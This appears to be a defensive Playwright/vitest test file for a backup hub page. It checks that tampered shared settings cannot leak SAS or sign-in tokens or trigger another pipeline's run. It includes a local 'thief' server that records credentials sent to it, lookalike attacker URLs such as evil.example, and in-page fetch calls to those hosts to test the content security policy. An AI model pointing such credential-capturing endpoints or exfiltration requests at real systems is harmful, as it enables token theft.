/** Settings are shared and others may write them: what the hub does with a person's credentials when they have. */
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, FrameLocator } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { makeKeySet } from "../../engine/crypto/keys.ts";
import { nodeCryptography } from "../../engine/native/node-cryptography.ts";
import { describeInChromium, startChromium } from "../support/chromium.ts";
import {
  button,
  command,
  enterSas,
  openHub,
  panelOf,
  rowsOf,
  type HubPage,
  type OpenHub,
} from "../support/hub-browser.ts";
import {
  agreeToSettings,
  backUp,
  changeSettings,
  confirmedSettings,
  forgetAgreement,
  poisonSettings,
  startHubWorld,
  type HubWorld,
} from "../support/hub-world.ts";
import { ask } from "../support/simulator.ts";

/** An address that takes whatever is sent to it, and notes it. */
interface Thief {
  readonly containerUrl: string;
  readonly heard: string[];
  stop(): Promise<void>;
}

const id = "0b1c2d3e-0000-4000-8000-000000000001";

describeInChromium("settings that somebody else has changed", () => {
  let browser: Browser;
  let world: HubWorld;
  let thief: Thief;
  let opened: HubPage;
  let undo: (() => void) | undefined;

  beforeAll(async () => {
    [browser, world, thief] = await Promise.all([startChromium(), startHubWorld(), startThief()]);
    await backUp(world);
  });

  afterEach(async () => {
    await opened.close();
    undo?.();
    undo = undefined;
    agreeToSettings(world);
    thief.heard.length = 0;
  });

  afterAll(async () => {
    await browser.close();
    await thief.stop();
    await world.stop();
  });

  interface Visit {
    readonly sas?: string;
    readonly container?: string;
    readonly query?: OpenHub["query"];
  }

  async function visit({
    sas = world.readSas,
    container = world.container.url,
    query = {},
  }: Visit = {}): Promise<FrameLocator> {
    const entered = { project: world.shop.project.id, sas, container, viewerKey: world.keys.viewerKey };
    opened = await openHub(browser, world.place.hubUrl, { query, entered });
    return opened.hub;
  }

  function question(hub: FrameLocator): ReturnType<FrameLocator["getByRole"]> {
    return hub.getByRole("region", { name: "Settings to confirm" });
  }

  /** Requests with something that opens storage, and all that went to a storage. */
  function toStorage(): readonly string[] {
    return opened.seen.requests.filter((request) => /sig=|comp=list/.test(request));
  }

  it("show both containers, and send the kept SAS to neither before they are confirmed", async () => {
    undo = poisonSettings(world, { containerUrl: thief.containerUrl });
    const hub = await visit();
    for (const address of [world.container.url, thief.containerUrl])
      await question(hub).getByText(address, { exact: true }).waitFor();
    for (const tab of ["Health", "Restores", "Snapshots"]) await hub.getByRole("tab", { name: tab }).click();
    await command(hub, "Refresh");
    await opened.page.waitForTimeout(1000);

    expect(toStorage()).toEqual([]);
    expect(thief.heard).toEqual([]);
  });

  it("never take a SAS along to another container, also when the new one is confirmed", async () => {
    undo = poisonSettings(world, { containerUrl: thief.containerUrl });
    const hub = await visit();
    await button(question(hub), "Use the settings as they are now").click();
    await question(hub).waitFor({ state: "hidden" });
    await hub.getByText("Connect to storage to check them").waitFor();
    await opened.page.waitForTimeout(1000);

    expect(toStorage()).toEqual([]);
    expect(thief.heard).toEqual([]);
    expect(confirmedSettings(world)).toMatchObject({ containerUrl: thief.containerUrl });
  });

  it("are put back by one click, and the page reads by what was confirmed before", async () => {
    undo = poisonSettings(world, { containerUrl: thief.containerUrl });
    const hub = await visit();
    await button(question(hub), "Put back what I confirmed").click();
    await rowsOf(hub, "Snapshots").first().waitFor();

    expect(await question(hub).count()).toBe(0);
    expect(thief.heard).toEqual([]);
  });

  it("get no token of the person, whose sign-in is set up, before the container is confirmed", async () => {
    const before = changeSettings(world, { entraClientId: id, entraTenantId: id });
    const poisoned = poisonSettings(world, { containerUrl: thief.containerUrl });
    undo = () => {
      poisoned();
      before();
    };
    const hub = await visit({ sas: "" });
    await question(hub).getByText(thief.containerUrl, { exact: true }).waitFor();
    await opened.page.waitForTimeout(1000);
    const asked: string[] = await opened.page.evaluate(
      "window.__log.filter(({ service }) => service === 'signIn').map(({ method }) => method)",
    );

    expect(asked.filter((method) => method.startsWith("GetToken"))).toEqual([]);
    expect(thief.heard).toEqual([]);
  });

  it("get no token on the very first visit either, until the person has seen whose settings they are", async () => {
    undo = changeSettings(world, { entraClientId: id, entraTenantId: id });
    forgetAgreement(world);
    const hub = await visit({ sas: "" });
    await question(hub).getByText(world.container.url, { exact: true }).waitFor();
    for (const signer of world.keys.signer.split(",")) await question(hub).getByText(bare(signer)).waitFor();
    const early = toStorage();
    await button(question(hub), "Use these settings").click();
    await expect.poll(toStorage).not.toEqual([]);

    expect(early).toEqual([]);
  });

  it.each([
    "https://evil.example/devstoreaccount1/backups",
    "https://contosobackups.blob.core.windows.net.evil.example/backups",
    "http://192.0.2.7:10000/devstoreaccount1/backups",
  ])("send nothing to %s, even when it was confirmed and a SAS or a sign-in is there for it", async (containerUrl) => {
    undo = changeSettings(world, { containerUrl, entraClientId: id, entraTenantId: id });
    const hub = await visit({ container: containerUrl });
    await hub.getByText("is not a storage account of Azure").first().waitFor();
    const elsewhere = opened.seen.requests.filter(
      (request) => !/^[A-Z]+ (?:http:\/\/127\.0\.0\.1:|data:)/.test(request),
    );

    expect(elsewhere).toEqual([]);
    expect(toStorage()).toEqual([]);
  });

  it("cannot lead the page elsewhere by a redirect of the storage", async () => {
    const container = `${new URL(thief.containerUrl).origin}/redirect/backups`;
    undo = changeSettings(world, { containerUrl: container });
    const hub = await visit({ container });
    await hub.getByRole("alert").first().waitFor({ timeout: 60_000 });

    expect(thief.heard.length).toBeGreaterThan(0);
    expect(thief.heard.filter((request) => request.includes("/redirected"))).toEqual([]);
  });

  describe("by the page's own policy", () => {
    it("reach no other host, whatever a script in the page might try", async () => {
      await visit();
      const outcomes: string[] = await opened.frame().evaluate(`Promise.all([
        "https://evil.example/?sig=x",
        "http://192.0.2.7:10000/?sig=x",
        "https://blob.core.windows.net.evil.example/",
      ].map((address) => fetch(address).then(() => "sent", (error) => String(error))))`);
      const refused = opened.seen.errors.splice(0).filter((text) => /Content Security Policy|connect-src/.test(text));

      expect(outcomes.every((outcome) => outcome.startsWith("TypeError"))).toBe(true);
      expect(refused.length).toBeGreaterThanOrEqual(3);
    });
  });

  it("start no run of another pipeline before the person has seen the change", async () => {
    const other = world.azure.state.builds.addDefinition(world.shop.project, {
      name: "Somebody's",
      yamlFilename: "/other.yml",
      repositoryId: world.shop.web.record.id,
    });
    undo = poisonSettings(world, { backupPipelineId: other.id });
    const hub = await visit();
    await question(hub).getByText(`Somebody's (${other.id})`).waitFor();
    await command(hub, "Back up now");
    await button(panelOf(hub), "Back up").click();
    await panelOf(hub).getByText("The settings of this page are not confirmed").waitFor();

    expect((await ask(world.azure, `Shop/_apis/build/builds?definitions=${other.id}`)).list).toEqual([]);
  });

  it("show no YAML with signers and recipients of somebody else", async () => {
    const theirs = await makeKeySet(nodeCryptography());
    const [agent = ""] = theirs.signer.split(",");
    undo = poisonSettings(world, { signers: [agent], recoveryRecipients: [theirs.recoveryRecipient] });
    const hub = await visit({ query: { tab: "setup" } });
    await question(hub).getByText(bare(agent)).waitFor();
    await question(hub).getByText(theirs.recoveryRecipient).waitFor();
    await question(hub).getByText("the agent's key").first().waitFor();

    expect(
      await hub
        .locator("pre")
        .filter({ hasText: /signer|recoveryRecipients/ })
        .count(),
    ).toBe(0);
    expect(await button(hub, "Save the settings").count()).toBe(0);
  });

  it("keep a SAS for the container it was entered for, in the tab's storage too", async () => {
    const hub = await visit({ sas: "" });
    await enterSas(hub, world.readSas);
    await rowsOf(hub, "Snapshots").first().waitFor();
    undo = changeSettings(world, { containerUrl: thief.containerUrl });
    await opened.page.reload();
    await opened.hub.getByText("Connect to storage to check them").waitFor();

    expect(thief.heard).toEqual([]);
  });
});

function bare(signer: string): string {
  return signer.replace(/^\w+=/, "");
}

async function startThief(): Promise<Thief> {
  const heard: string[] = [];
  const server: Server = createServer((request, response) => {
    heard.push(`${request.method ?? ""} ${request.url ?? ""} ${request.headers.authorization ?? ""}`);
    const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
    if (request.url?.startsWith("/redirect/") === true && request.method !== "OPTIONS")
      response.writeHead(302, { ...headers, location: `/redirected${request.url}` }).end();
    else response.writeHead(request.method === "OPTIONS" ? 200 : 404, headers).end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  return {
    containerUrl: `http://127.0.0.1:${port}/devstoreaccount1/backups`,
    heard,
    stop: async () => {
      server.close();
      server.closeAllConnections();
    },
  };
}
